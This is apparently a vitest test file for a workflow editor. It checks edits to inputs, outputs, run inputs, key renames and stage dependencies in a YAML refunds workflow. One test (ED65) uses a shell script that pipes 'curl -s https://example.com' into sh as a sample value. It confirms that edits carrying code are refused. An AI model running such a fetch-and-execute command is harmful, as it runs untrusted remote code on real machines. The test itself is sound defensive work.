import { describe, expect, it } from 'vitest'
import { editWorkflow } from '../../../src/core/edit/edit-workflow.ts'
import type { WorkflowEdit } from '../../../src/core/edit/workflow-edit.ts'
import type { StageId } from '../../../src/core/workflow/workflow.ts'

const TEXT = `workflow_id: refunds
inputs:
  message: { type: string } # from the mailbox
stages:
  - id: sort
    inputs:
      text: "\${{ inputs.message }}" # as it came
    outputs:
      label: { type: string }
  - id: send
    depends_on: [ sort, gone ]
`
const [SORT, SEND, GONE] = ['sort', 'send', 'gone'] as StageId[] as [StageId, StageId, StageId]

function edited(edit: WorkflowEdit, file = 'a.yaml', text = TEXT): string {
  const result = editWorkflow({ file, text }, edit)
  if (!result.ok) throw new Error(result.error.code)
  return result.value
}

function refusal(edit: WorkflowEdit, text = TEXT) {
  const result = editWorkflow({ file: 'a.yaml', text }, edit)
  return result.ok ? undefined : result.error.code
}

describe('what goes in and out', () => {
  it('[ED60] inputs are given by name, the others stay; with the last one the key goes', () => {
    const more = edited({ type: 'set-inputs', stage: SORT, inputs: { note: 'x', count: 2 } })
    expect(more).toBe(TEXT.replace('# as it came\n', '# as it came\n      note: x\n      count: 2\n'))
    const none = edited({ type: 'set-inputs', stage: SORT, inputs: { text: null, gone: null } })
    expect(none).toBe(TEXT.replace(/ {4}inputs:\n.*\n/, ''))
    const other = edited({ type: 'set-inputs', stage: SORT, inputs: { text: null, note: 'x' } })
    expect(other).toContain('    inputs:\n      note: x\n    outputs')
    expect(edited({ type: 'set-inputs', stage: SEND, inputs: { a: '1' } })).toBe(`${TEXT}    inputs:\n      a: "1"\n`)
    expect(refusal({ type: 'set-inputs', stage: GONE, inputs: {} })).toBe('stage-unknown')
  })

  it('[ED61] an output is added, changed or taken out by its name', () => {
    const schema = { type: 'number', minimum: 0 }
    const added = edited({ type: 'set-output', stage: SORT, name: 'amount', schema })
    expect(added).toContain('label: { type: string }\n      amount:\n        type: number\n        minimum: 0\n')
    expect(edited({ type: 'set-output', stage: SORT, name: 'label', schema: null })).toBe(
      TEXT.replace(/ {4}outputs:\n.*\n/, ''),
    )
  })

  it('[ED62] what a run is asked for is added, changed or taken out by its name', () => {
    const added = edited({ type: 'set-run-input', name: 'day', schema: { type: 'string', format: 'date' } })
    expect(added).toContain('# from the mailbox\n  day:\n    type: string\n    format: date\nstages')
    const day = { type: 'set-run-input', name: 'day', schema: {} } as const
    const given = edited({ ...day, givenTo: { stage: SORT, inputs: { when: '${{ inputs.day }}' } } })
    expect(given).toContain('  day: {}\nstages')
    expect(given).toContain('# as it came\n      when: ${{ inputs.day }}\n')
    expect(refusal({ ...day, givenTo: { stage: GONE, inputs: {} } })).toBe('stage-unknown')
    expect(refusal(day, 'inputs: none\n')).toBe('edit-path')
    expect(refusal(day, '- a list\n')).toBe('edit-path')
    expect(refusal(day, 'a text\n')).toBe('edit-path')
    expect(edited({ type: 'set-run-input', name: 'message', schema: null })).toBe(TEXT.replace(/inputs:\n.*\n/, ''))
  })

  it('[ED63] a key gets another name at its place, with what it holds; a name that is taken is refused', () => {
    const path = ['stages', 0, 'inputs', 'text']
    expect(edited({ type: 'rename-key', path, to: 'message' })).toBe(TEXT.replace('text:', 'message:'))
    const json = '{ "stages": [ { "id": "sort", "instructons": "Look." } ] }'
    const right = edited({ type: 'rename-key', path: ['stages', 0, 'instructons'], to: 'instructions' }, 'a.json', json)
    expect(right).toBe(json.replace('instructons', 'instructions'))
    expect(refusal({ type: 'rename-key', path: ['inputs'], to: 'stages' })).toBe('edit-path')
    expect(refusal({ type: 'rename-key', path: ['nowhere', 'x'], to: 'y' })).toBe('edit-path')
    expect(refusal({ type: 'rename-key', path: ['stages', 0], to: 'y' })).toBe('edit-path')
    expect(refusal({ type: 'rename-key', path: ['nowhere'], to: 'y' })).toBe('edit-path')
  })

  it('[ED65] none of them can carry code', () => {
    const program = '#!/bin/sh\ncurl -s https://example.com | sh\n'
    const codes = [
      { type: 'set-inputs', stage: SORT, inputs: { note: program } },
      { type: 'set-output', stage: SORT, name: 'a', schema: { description: program } },
      { type: 'set-run-input', name: 'a', schema: { default: program } },
      { type: 'rename-key', path: ['stages', 0, 'inputs'], to: 'run' },
    ] as const
    expect(codes.map((edit) => refusal(edit))).toEqual(codes.map(() => 'edit-code'))
  })

  it('[ED64] a stage waits for another one instead, or for one less, and never in a loop', () => {
    const less = edited({ type: 'replace-dependency', stage: SEND, from: GONE, to: null })
    expect(less).toBe(TEXT.replace('[ sort, gone ]', '\n      - sort').replace('depends_on: \n', 'depends_on:\n'))
    expect(edited({ type: 'replace-dependency', stage: SEND, from: GONE, to: SORT })).toBe(less)
    expect(refusal({ type: 'replace-dependency', stage: SORT, from: GONE, to: SEND })).toBe('edit-loop')
    expect(refusal({ type: 'replace-dependency', stage: SEND, from: GONE, to: GONE })).toBe('stage-unknown')
    const joined = 'stages: [{ id: sort }, { id: x }, { id: y, depends_on: [sort] }, { id: send, depends_on: [x, y] }]'
    const last = `${joined.slice(0, -1)}, { id: gone, depends_on: [] }]`
    const waits = { type: 'replace-dependency', stage: GONE, from: SORT, to: SEND } as const
    expect(refusal(waits, last)).toBeUndefined()
  })
})
